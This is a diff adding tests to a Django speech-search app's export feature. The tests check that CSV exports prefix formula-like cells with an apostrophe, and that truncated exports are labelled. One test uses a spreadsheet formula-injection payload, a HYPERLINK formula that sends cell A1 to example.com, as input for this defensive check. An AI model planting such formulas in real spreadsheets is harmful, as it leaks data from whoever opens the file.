@@ -76,3 +76,45 @@ def test_an_export_says_which_speeches_are_fragments(client, cast):
     exported = {r["id"]: r for r in client.get("/search/export.json", params).json()["results"]}
     assert exported[cast["fragment"].public_id]["fragment"] is True
     assert exported[cast["yushan"].public_id]["fragment"] is False
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, cast):
+    # An uploaded page's title is anyone's text: opened in Excel, it must not run.
+    from speeches.models import Speech
+
+    Speech.objects.filter(pk=cast["exam"].pk).update(title='=HYPERLINK("http://example.com/?"&A1,"点击")')
+    text = client.get("/search/export.csv", {"q": "考试"}).content.decode("utf-8").lstrip("\ufeff")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert rows[cast["exam"].public_id]["title"] == '\'=HYPERLINK("http://example.com/?"&A1,"点击")'
+    # The JSON is data for programs, not a spreadsheet: as stored.
+    exported = client.get("/search/export.json", {"q": "考试"}).json()["results"]
+    assert exported[0]["title"].startswith("=HYPERLINK")
+
+
+@pytest.mark.parametrize(
+    "value, shown",
+    [("=1+1", "'=1+1"), ("+86", "'+86"), ("----基础", "'----基础"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1")],
+)
+def test_only_what_a_formula_could_start_with_gets_an_apostrophe(value, shown):
+    from speeches.spreadsheets import as_text
+
+    assert as_text(value) == shown
+    assert as_text("安全生产 = 1") == "安全生产 = 1" and as_text(-3) == -3 and as_text("—") == "—"
+
+
+def test_a_cut_csv_export_says_so_in_its_name_and_the_page_says_how_many_of_how_many(client, cast, monkeypatch):
+    monkeypatch.setattr("speeches.api.EXPORT_LIMIT", 2)
+    response = client.get("/search/export.csv", {"q": "工作"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    count = int(response["X-Total-Count"])
+    assert len(rows) == 2 < count
+    assert f"-first-2-of-{count}.csv" in response["Content-Disposition"]
+    whole = client.get("/search/export.csv", {"q": "考试"})
+    assert "-of-" not in whole["Content-Disposition"] and whole["X-Total-Count"] == "1"
+
+
+def test_the_results_page_says_when_an_export_holds_only_the_first_results(client, cast, monkeypatch):
+    monkeypatch.setattr("speeches.views.EXPORT_LIMIT", 2)
+    html = client.get("/search/", {"q": "工作"}).content.decode()
+    assert "导出前 2 篇（共 12 篇" in html
+    assert "导出全部结果" in client.get("/search/", {"q": "考试"}).content.decode()
